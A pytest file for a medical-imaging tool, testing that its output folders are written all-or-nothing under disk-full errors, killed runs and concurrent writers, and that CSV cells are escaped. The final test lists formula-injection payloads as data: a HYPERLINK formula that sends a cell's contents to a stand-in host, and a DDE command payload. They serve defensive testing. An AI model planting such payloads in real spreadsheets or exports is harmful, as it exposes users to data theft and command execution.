"""All or nothing, really: an analysis's folder appears whole or not at all, whatever fails, kills
or races it (issue 26). Every analyzer and ``medcnn batch`` commit through one path,
``medcnn.outputs.writing.staged_output``, so most cases are tested there and the command line
shows the user's side once each."""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pydicom
import pytest
from reliability_support import assert_one_clear_sentence, run_cli, snapshot

import medcnn.app.analysis
import medcnn.outputs.render
from medcnn.app.batch import spreadsheet_safe, write_predictions
from medcnn.errors import OutputError
from medcnn.outputs.writing import RESULT, STAGING_MARK, staged_output
from medcnn.phantom import NODULE_CENTER_RAS

SRC = Path(__file__).resolve().parents[2] / "src"


def analyze_args(image: Path | str, out: Path, bundle: Path, *extra: str) -> list:
    args = ["analyze", image, "--point", *map(str, NODULE_CENTER_RAS), "--out", out, *extra]
    return args + ["--bundle", bundle, "--trust-bundle"]


def disk_full(*args: object, **kwargs: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


# --- the overlay is drawn from what the analysis holds, before anything is committed -----------


def test_the_overlay_needs_no_slice_the_analysis_did_not_read(
    phantom: dict, tmp_bundle: Path, tmp_path: Path, capsys
) -> None:
    """Issue 26's example: a series with one truncated slice 36 mm from the point (inside the
    overlay's field, outside the network's cube) is analysed whole, overlay included."""
    series = tmp_path / "series"
    shutil.copytree(phantom["dicom_dir"], series)

    def height(path: Path) -> float:
        return float(pydicom.dcmread(path).ImagePositionPatient[2])

    slices = sorted(series.iterdir(), key=height)
    far = slices[20]  # z = -140.25 mm; the nodule is at -103.9
    far.write_bytes(far.read_bytes()[:-20000])
    run = run_cli(capsys, *analyze_args(series, tmp_path / "out", tmp_bundle, "--overlay"))
    assert run.code == 0, run.stderr
    result = json.loads((tmp_path / "out" / RESULT).read_text())
    assert result["outputs"]["overlay"] == "overlay.png"
    assert (tmp_path / "out" / "overlay.png").stat().st_size > 1000


@pytest.mark.parametrize("failing", ["overlay", "volume"])
def test_no_room_for_a_file_is_exit_13_and_leaves_nothing(
    failing: str, phantom: dict, tmp_bundle: Path, tmp_path: Path, monkeypatch, capsys
) -> None:
    """ENOSPC for the overlay or a volume: exit 13 with one sentence, no folder, no parents."""
    target = (medcnn.outputs.render, "save_figure") if failing == "overlay" else None
    if target is None:
        monkeypatch.setattr(medcnn.outputs.writing.nib, "save", disk_full)
    else:
        monkeypatch.setattr(*target, disk_full)
    out = tmp_path / "a" / "b" / "out"
    before = snapshot(tmp_path)
    run = run_cli(capsys, *analyze_args(phantom["nifti"], out, tmp_bundle, "--overlay"))
    assert_one_clear_sentence(run, 13, "No space left on device", "free some space")
    assert snapshot(tmp_path) == before  # not even the empty a/ and a/b/


def test_a_disk_error_outside_the_commit_is_exit_13_too(
    phantom: dict, tmp_bundle: Path, tmp_path: Path, monkeypatch, capsys
) -> None:
    """ENOSPC anywhere (here while an analysis computes) is the disk's fault: exit 13."""
    monkeypatch.setattr(medcnn.app.analysis, "predict", disk_full)
    run = run_cli(capsys, *analyze_args(phantom["nifti"], tmp_path / "out", tmp_bundle))
    assert_one_clear_sentence(run, 13, "No space left on device")
    assert not (tmp_path / "out").exists()


def test_predictions_csv_on_a_full_disk_is_exit_13(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr("medcnn.app.batch.os.replace", disk_full)
    with pytest.raises(OutputError, match="No space left on device") as caught:
        write_predictions([{"id": "1"}], tmp_path / "predictions.csv")
    assert caught.value.exit_code == 13
    assert list(tmp_path.iterdir()) == []


# --- a reused --out ----------------------------------------------------------------------------


def test_a_reused_out_is_replaced_whole(
    phantom: dict, tmp_bundle: Path, tmp_path: Path, capsys
) -> None:
    """Issue 26's example: an overlay.png of an earlier run does not stay beside new results."""
    out = tmp_path / "out"
    assert run_cli(capsys, *analyze_args(phantom["nifti"], out, tmp_bundle, "--overlay")).code == 0
    assert (out / "overlay.png").exists()
    assert run_cli(capsys, *analyze_args(phantom["nifti"], out, tmp_bundle)).code == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "heatmap.nii.gz",
        "result.json",
        "segmentation.nii.gz",
    ]
    assert "overlay" not in json.loads((out / RESULT).read_text())["outputs"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # nothing hidden beside it


def test_a_folder_of_other_files_is_refused_before_the_work(
    phantom: dict, tmp_bundle: Path, tmp_path: Path, monkeypatch, capsys
) -> None:
    """MedCNN replaces only a folder of its own results: a folder holding anything else (no
    result.json) is refused at once, and its files are untouched."""
    out = tmp_path / "my_documents"
    out.mkdir()
    (out / "thesis.tex").write_text("years of work\n")
    monkeypatch.setattr(medcnn.app.analysis, "predict", disk_full)  # the work must not start
    before = snapshot(tmp_path)
    run = run_cli(capsys, *analyze_args(phantom["nifti"], out, tmp_bundle))
    assert_one_clear_sentence(run, 13, "already holds files", "new or empty folder")
    assert snapshot(tmp_path) == before


# --- killed runs and their leftovers ------------------------------------------------------------


def run_python(code: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def commit_twice_then(folder: Path, kill: str) -> Path:
    """In a child process: commit a first result, then start a second and SIGKILL it ``kill``
    ("while writing" or "between the renames"); returns the output folder."""
    out = folder / "out"
    done = run_python(
        f"""
        import os, signal
        from pathlib import Path
        import medcnn.outputs.writing as w

        out = Path({str(out)!r})
        with w.staged_output(out) as staging:
            (staging / "result.json").write_text("first")
            (staging / "heatmap.nii.gz").write_text("first")
        if {kill!r} == "between the renames":
            real = os.rename
            def rename(source, target):
                real(source, target)
                if w.REPLACED_MARK in str(target):
                    os.kill(os.getpid(), signal.SIGKILL)
            w.os.rename = rename
        with w.staged_output(out) as staging:
            (staging / "heatmap.nii.gz").write_text("second")
            if {kill!r} == "while writing":
                os.kill(os.getpid(), signal.SIGKILL)
            (staging / "result.json").write_text("second")
        """,
        folder,
    )
    assert done.returncode == -signal.SIGKILL, done.stderr
    return out


@pytest.mark.parametrize("kill", ["while writing", "between the renames"])
def test_a_killed_run_leaves_the_earlier_result_and_the_next_run_cleans_up(
    kill: str, tmp_path: Path
) -> None:
    out = commit_twice_then(tmp_path, kill)
    leftovers = [p.name for p in tmp_path.iterdir() if p.name != "out"]
    assert leftovers  # SIGKILL gives no chance to clean up: a hidden folder stays
    if kill == "while writing":  # the earlier result was never touched
        assert (out / "result.json").read_text() == "first"
    with staged_output(out) as staging:  # the next run into the same folder
        (staging / RESULT).write_text("third")
    assert [p.name for p in tmp_path.iterdir()] == ["out"]
    assert sorted(p.name for p in out.iterdir()) == [RESULT]  # whole, nothing of earlier runs


def test_the_earlier_result_set_aside_by_a_killed_swap_is_put_back(tmp_path: Path) -> None:
    """Killed between moving the old folder aside and the new one in: the next run finds no
    ``out`` and puts the earlier complete result back before it does anything else."""
    out = commit_twice_then(tmp_path, "between the renames")
    assert not out.exists()
    with pytest.raises(RuntimeError):
        with staged_output(out):
            raise RuntimeError("this run fails too")
    assert (out / "result.json").read_text() == "first"
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_a_run_into_another_folder_beside_cleans_up_too(tmp_path: Path) -> None:
    """3D Slicer gives each click a new folder: the next click's commit removes what a killed
    one left beside it."""
    commit_twice_then(tmp_path, "while writing")
    with staged_output(tmp_path / "next_click") as staging:
        (staging / RESULT).write_text("{}")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["next_click", "out"]


def test_a_live_run_s_staging_folder_is_not_taken_for_a_leftover(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with staged_output(out) as first:
        (first / RESULT).write_text("first")
        with staged_output(out) as second:  # another run meanwhile: its cleanup spares `first`
            (second / RESULT).write_text("second")
        assert (first / RESULT).exists()
    assert (out / RESULT).read_text() == "first"  # the last to commit wins, whole
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_sigterm_cancels_like_ctrl_c_and_leaves_nothing(
    phantom: dict, tmp_bundle: Path, tmp_path: Path, monkeypatch, capsys
) -> None:
    def terminated(*args: object, **kwargs: object) -> None:
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(medcnn.outputs.writing, "nifti_image", terminated)
    before = snapshot(tmp_path)
    run = run_cli(capsys, *analyze_args(phantom["nifti"], tmp_path / "out", tmp_bundle))
    assert_one_clear_sentence(run, 130, "Cancelled")
    assert snapshot(tmp_path) == before


# --- two runs into one folder ---------------------------------------------------------------------


def test_concurrent_runs_into_one_folder_never_mix_their_files(tmp_path: Path) -> None:
    """Two writers commit into one folder many times at once (threads hold their own locks,
    as processes do): the folder is always one commit's files, whole, and nothing is left."""
    out = tmp_path / "out"
    names = ("result.json", "heatmap.nii.gz", "overlay.png")
    errors: list[BaseException] = []

    def writer(tag: str) -> None:
        try:
            for n in range(15):
                with staged_output(out) as staging:
                    for name in names:
                        (staging / name).write_text(f"{tag}{n}")
        except BaseException as error:  # reported below
            errors.append(error)

    threads = [threading.Thread(target=writer, args=(tag,)) for tag in "ab"]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len({(out / name).read_text() for name in names}) == 1
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_a_staging_folder_is_hidden_beside_out_until_the_commit(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with staged_output(out) as staging:
        assert staging.parent == tmp_path and staging.name.startswith(f".out{STAGING_MARK}")
        assert not out.exists()
        (staging / RESULT).write_text("{}")
    assert not staging.exists() and (out / RESULT).exists()


# --- predictions.csv in a spreadsheet -----------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_a_spreadsheet_would_run_are_written_as_text(cell: str, tmp_path: Path) -> None:
    path = tmp_path / "predictions.csv"
    write_predictions([{"id": cell, "image": "x.nii.gz", "r": "-611.5"}], path)
    import csv

    with open(path, newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["id"] == "'" + cell
    assert row["r"] == "-611.5"  # a negative number stays a number
    assert spreadsheet_safe("lung1") == "lung1" and spreadsheet_safe(0.5) == 0.5
